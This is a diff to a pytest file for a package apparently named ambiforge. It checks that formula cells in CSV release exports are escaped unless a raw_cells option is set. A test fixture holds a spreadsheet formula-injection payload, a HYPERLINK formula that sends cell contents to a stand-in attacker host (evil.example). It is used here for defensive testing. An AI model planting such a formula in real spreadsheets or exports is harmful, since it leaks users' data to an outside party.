@@ -8,12 +8,14 @@ from pathlib import Path
 
 import pytest
 
+import ambiforge
 from ambiforge.ambik.csv_io import formula_cells, read_ambik_csv, write_ambik_csv
 from ambiforge.cli.main import main
 from ambiforge.models import Item
 from ambiforge.releases.verify import verify_release
 from ambiforge.releases.writer import release
 from ambiforge.validation.report import issues_csv
+from tests.unit.release import gz
 from tests.unit.release.test_release import make_items, options, write_run
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Which one?")'
@@ -63,10 +65,15 @@ def test_raw_cells_are_byte_exact(items: list[Item], tmp_path: Path, catalog) ->
 
 @pytest.mark.parametrize("raw_cells", [False, True])
 def test_a_release_with_formula_cells_verifies(items: list[Item], tmp_path: Path, raw_cells: bool) -> None:
+    """The release's AmbiK CSV export escapes formula cells unless ``raw_cells``; a release written before the
+    CSV became an export verifies with either form of its CSV files."""
     write_run(tmp_path / "raw", "run-f", items)
-    folder = release(options(tmp_path, "1.0.0", ["run-f"], calibration_size=2, target_mix=None, raw_cells=raw_cells))
-    written = (folder / "ambik.csv").read_text(encoding="utf-8")
-    assert ("'" + LINK.replace('"', '""') in written) is not raw_cells
+    folder = release(options(tmp_path, "1.0.0", ["run-f"], calibration_size=2, target_mix=None))
+    assert verify_release(folder)["rows"] == len(items)
+    exported = tmp_path / "ambik.csv"
+    assert ambiforge.export_ambik(folder / "data.parquet", exported, raw_cells=raw_cells) == len(items)
+    assert ("'" + LINK.replace('"', '""') in exported.read_text(encoding="utf-8")) is not raw_cells
+    gz.to_legacy(folder, raw_cells=raw_cells)
     split_text = "".join(p.read_text(encoding="utf-8") for p in (folder / "splits").glob("*.csv"))
     assert ('"' + LINK.replace('"', '""') in split_text) is raw_cells
     assert verify_release(folder)["rows"] == len(items)
